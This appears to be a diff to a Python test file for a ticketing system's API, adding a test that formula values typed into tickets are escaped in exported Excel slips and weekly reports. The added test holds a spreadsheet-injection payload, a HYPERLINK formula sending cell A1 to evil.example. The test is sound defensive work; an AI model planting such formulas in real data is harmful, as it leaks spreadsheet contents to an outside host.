@@ -101,7 +101,7 @@ async def test_the_transfer_slip_is_dated_by_the_first_dispatch_to_its_unit(api:
     await api.act("boss", tid, "reply", reason="已关阀检修")
     api.clock.now = T0 + timedelta(days=3)  # Thursday: 不满意 reopens it
     r = await api.post(
-        "wang",
+        "boss",
         f"/api/tickets/{tid}/followups",
         {"result": "reached", "satisfaction": "unsatisfied"},
     )
@@ -112,3 +112,30 @@ async def test_the_transfer_slip_is_dated_by_the_first_dispatch_to_its_unit(api:
     values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value]
     assert "2024年11月26日" in values and "2024年11月28日" not in values
     assert "工号 1001" in values  # 受理人: the agent's number, not the switch's PJSIP/1001
+
+
+async def test_a_formula_typed_into_a_ticket_never_runs_in_the_supervisors_excel(
+    api: Api,
+) -> None:
+    tid = await drafted(api)
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    r = await api.client.patch(
+        f"/api/tickets/{tid}", json={"summary": attack, "topic": "@SUM(1)"}, headers=api._h("wang")
+    )
+    assert r.status_code == 200, r.text
+    await api.act("wang", tid, "confirm")
+    await api.act("boss", tid, "dispatch", unit="-抢修中心")
+    await api.act("boss", tid, "set_exposure", reason="+媒体曝光")
+
+    xlsx = await api.get("boss", f"/api/tickets/{tid}/transfer-slip", format="xlsx")
+    week = T0.date().isoformat()
+    report = await api.get("boss", "/api/ticket-reports", period="week", date=week, format="xlsx")
+    for body in (xlsx.content, report.content):
+        book = openpyxl.load_workbook(io.BytesIO(body))
+        values = [c.value for ws in book for row in ws.iter_rows() for c in row]
+        texts = [v for v in values if isinstance(v, str)]
+        assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))], texts
+        assert "'-抢修中心" in texts  # the unit, shown as typed, escaped
+    report_book = openpyxl.load_workbook(io.BytesIO(report.content))
+    topics = [c.value for row in report_book["热点"].iter_rows() for c in row]
+    assert "'@SUM(1)" in topics
